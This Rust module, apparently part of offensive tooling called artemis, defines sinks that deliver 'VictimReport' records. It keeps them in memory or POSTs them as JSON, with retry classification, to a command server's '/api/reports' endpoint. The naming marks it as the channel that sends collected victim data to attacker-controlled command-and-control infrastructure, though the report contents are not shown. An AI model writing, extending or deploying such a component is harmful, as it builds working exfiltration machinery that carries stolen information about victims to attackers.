//! Report delivery targets.

use artemis_core::VictimReport;
use thiserror::Error;

#[derive(Debug, Error)]
pub enum SinkError {
    #[error("transport failure: {0}")]
    Transport(String),
    #[error("server error (HTTP {0})")]
    Server(u16),
    /// The receiver understood the report and refused it; retrying cannot help.
    #[error("report rejected (HTTP {status}): {body}")]
    Rejected { status: u16, body: String },
}

impl SinkError {
    pub fn is_retryable(&self) -> bool {
        !matches!(self, SinkError::Rejected { .. })
    }
}

pub trait ReportSink {
    fn deliver(&mut self, report: &VictimReport) -> Result<(), SinkError>;
}

/// Keeps reports in memory, in delivery order.
#[derive(Debug, Default, Clone)]
pub struct Collector {
    pub reports: Vec<VictimReport>,
}

impl ReportSink for Collector {
    fn deliver(&mut self, report: &VictimReport) -> Result<(), SinkError> {
        self.reports.push(report.clone());
        Ok(())
    }
}

/// Posts each report to a command server's `/api/reports` endpoint.
#[derive(Debug, Clone)]
pub struct HttpSink {
    client: reqwest::blocking::Client,
    endpoint: String,
}

impl HttpSink {
    pub fn new(base_url: &str) -> Result<Self, SinkError> {
        let client = reqwest::blocking::Client::builder()
            .timeout(std::time::Duration::from_secs(10))
            .build()
            .map_err(|e| SinkError::Transport(e.to_string()))?;
        Ok(HttpSink {
            client,
            endpoint: format!("{}/api/reports", base_url.trim_end_matches('/')),
        })
    }

    pub fn endpoint(&self) -> &str {
        &self.endpoint
    }
}

impl ReportSink for HttpSink {
    fn deliver(&mut self, report: &VictimReport) -> Result<(), SinkError> {
        let response = self
            .client
            .post(&self.endpoint)
            .json(report)
            .send()
            .map_err(|e| SinkError::Transport(e.to_string()))?;
        let status = response.status();
        if status.is_success() {
            Ok(())
        } else if status.is_client_error() {
            Err(SinkError::Rejected {
                status: status.as_u16(),
                body: response.text().unwrap_or_default(),
            })
        } else {
            Err(SinkError::Server(status.as_u16()))
        }
    }
}
